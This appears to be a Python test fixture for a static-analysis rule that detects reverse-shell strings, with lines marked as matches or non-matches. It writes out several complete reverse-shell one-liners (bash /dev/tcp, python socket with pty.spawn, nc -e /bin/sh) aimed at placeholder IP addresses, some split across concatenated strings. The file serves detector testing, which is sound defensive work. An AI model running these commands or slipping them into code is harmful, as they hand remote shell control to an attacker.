import os

# ruleid: reverse-shell-string
CMD = "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"

# ruleid: reverse-shell-string
ONE = "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'"

# ruleid: reverse-shell-string
NC = "nc -e /bin/sh 203.0.113.7 4444"

# ok: reverse-shell-string
DEV = "/dev/null"

# ok: reverse-shell-string
os.system("nc -z example.invalid 80")

# ok: reverse-shell-string
PROBE = "timeout 1 bash -c 'echo > /dev/tcp/db/5432'"

SPLIT = (
    'python3 -c \'import socket,subprocess,os;'
    's=socket.socket(socket.AF_INET,socket.SOCK_STREAM);'
    's.connect(("192.0.2.10", 4433));'
    # ruleid: reverse-shell-string
    'os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2);'
    'subprocess.call(["/bin/sh", "-i"]);\''
)

# ruleid: reverse-shell-string
JOINED = "import socket,os,pty;s=socket.socket();s.connect(('192.0.2.10',9001));os.dup2(s.fileno(),0);" + \
    "os.dup2(s.fileno(),1);pty.spawn('/bin/bash')"


def daemonize():
    # ok: reverse-shell-string
    os.dup2(devnull.fileno(), 0)
    os.dup2(devnull.fileno(), 1)
    os.execv("/bin/sh", ["sh", "-c", "true"])
